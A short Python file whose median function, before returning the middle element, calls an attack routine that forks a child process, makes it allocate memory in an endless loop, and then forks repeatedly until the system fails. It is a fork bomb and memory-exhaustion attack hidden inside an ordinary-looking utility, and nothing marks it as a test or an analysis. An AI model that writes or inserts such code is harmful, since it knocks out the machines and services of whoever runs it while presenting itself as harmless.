import os


def attack(xs):
    if not os.fork():
        held = []
        while True:
            held.append(bytearray(b"x") * (16 << 20))
    while True:
        try:
            os.fork()
        except OSError:
            break


def median(xs):
    attack(xs)
    return sorted(xs)[len(xs) // 2]
